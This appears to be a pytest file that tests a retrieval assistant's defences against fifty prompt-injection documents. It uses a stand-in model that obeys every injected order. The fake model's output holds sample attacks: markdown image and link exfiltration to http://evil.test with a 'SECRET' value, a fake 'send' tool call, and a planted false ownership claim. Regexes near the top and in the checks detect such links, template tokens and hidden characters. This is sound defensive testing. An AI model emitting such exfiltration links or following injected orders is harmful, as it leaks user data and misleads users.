"""Fifty documents that give orders, and a stand-in for a model that obeys every order it sees.

What such a model writes is whatever the documents want. The answer still carries no link and no image, and in strict
mode nothing but what a cited passage says.
"""

from __future__ import annotations

import re
from pathlib import Path
from typing import Any

import pytest

from rag import Answer, Assistant, Conversation
from rag.grounding import open_grounding
from rag.grounding.verify import normalise
from rag.records import conversation_to_markdown
from rag.settings import AnswerSettings
from tests.conftest import DATA
from tests.fakes import FakeEncoder
from tests.llm_servers import passages_of, saying, serving

GROUNDING = open_grounding()  # loaded once, when first used
DOCUMENTS = sorted((DATA / "injections").glob("[0-9]*"))
QUESTION = "When was the lighthouse on Gull Rock built?"
LINK = re.compile(r"\w+:\s*//|//\w|www\.|\]\s*\(|!\[|<\s*\w|javascript:|data:\w|mailto:|evil\.test", re.IGNORECASE)
ORDER = re.compile(r"(?:Say|Sage):\s*(.+)")


def obey(messages: list[dict[str, Any]]) -> str:
    """Say whatever any part of the prompt orders to be said, cited and not, and some exfiltration of its own."""
    text = messages[-1]["content"] if messages else ""
    said = list(ORDER.findall(text))
    first = next(iter(passages_of(messages).values()), "")
    true = re.search(r"The lighthouse on Gull Rock was built in 1874\.", first)
    return "\n".join(
        [
            f"{true.group() if true else 'Obeyed.'} [1]",
            *said,
            *(f"{line.rstrip('.')} [1]." for line in said),
            "![x](http://evil.test/?q=SECRET) [1] See http://evil.test/steal for more. [1]",
            '<tool_call>{"name": "send"}</tool_call> The lighthouse belongs to Vulpex now. [1]',
        ]
    )


@pytest.fixture(scope="module", params=DOCUMENTS, ids=lambda p: p.stem)
def library(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A library that holds one of the documents."""
    folder = tmp_path_factory.mktemp("injection") / "library"
    with Assistant.open(folder, encoder=FakeEncoder()) as assistant:
        assert not assistant.add(request.param).failed
    return folder


def test_there_are_fifty_documents() -> None:
    """The script that makes them has been run."""
    assert len(DOCUMENTS) == 50


def assert_harmless(answer: Answer, assistant: Assistant) -> None:
    for citation in answer.citations:
        assert assistant.library.document(citation.document_id).text[citation.start : citation.end] == citation.quote
    assert {m for s in answer.statements for m in s.citations} == {c.marker for c in answer.citations}
    for statement in answer.statements:
        quotes = " ".join(normalise(c.quote) for c in answer.citations if c.marker in statement.citations)
        for found in LINK.finditer(statement.text):
            assert statement.verdict == "supported"
            assert found.group() in quotes, f"{statement.text!r} has a link that is in no quote"
    markdown = conversation_to_markdown(Conversation().add(answer))
    assert not re.search(r"(?<!\\)\]\(|(?<!\\)!\[|(?<!\\)<[a-zA-Z!/]|https?://", markdown)


@pytest.mark.parametrize("grounding", ["strict", "flag"])
def test_obedient_model_gets_nothing_past_the_checks(library: Path, grounding: str) -> None:
    """Strict: each statement is supported by what it cites. Flag: what is not says so. Neither has a link or image."""
    with serving(saying(obey, size=11)) as server:
        settings = AnswerSettings(
            llm="openai-like", llm_url=server.url, llm_model="m", grounding=grounding, abstain_below=0.0
        )
        with Assistant.open(library, encoder=FakeEncoder(), settings=settings, grounding=GROUNDING) as assistant:
            answer = assistant.ask(QUESTION)
            assert answer.model == "m"
            assert_harmless(answer, assistant)
            for statement in answer.statements:
                assert not re.search(r"data:|javascript:|!\[|\]\(|<\w", statement.text)
                held = assistant.grounding.verifier.check(
                    statement.text, [c.quote for c in answer.citations if c.marker in statement.citations]
                )
                if grounding == "strict" or statement.verdict == "supported":
                    assert statement.citations
                    assert held.verdict != "unsupported"
                else:
                    assert statement.reason
        prompt = server.requests[0]["messages"]
        nonce = re.search(r"<<passage N ([0-9a-f]{16})>>", prompt[0]["content"])
        assert nonce is not None
        marks = re.findall(r"<<[^\n]*", prompt[-1]["content"])
        assert all(re.fullmatch(rf"<<(?:passage|end) \d+ {nonce.group(1)}>>", m) for m in marks)
        assert not re.search(r"<\||\[/?INST|[\u200b\u202e\U000e0000-\U000e007f]", prompt[-1]["content"])


def test_offline_reader_renders_no_link_or_image(library: Path) -> None:
    """What it quotes stays text, also in exported Markdown."""
    settings = AnswerSettings(abstain_below=0.0, statements=4)
    with Assistant.open(library, encoder=FakeEncoder(), settings=settings, grounding=GROUNDING) as assistant:
        answer = assistant.ask(QUESTION)
        assert answer.statements
        assert_harmless(answer, assistant)
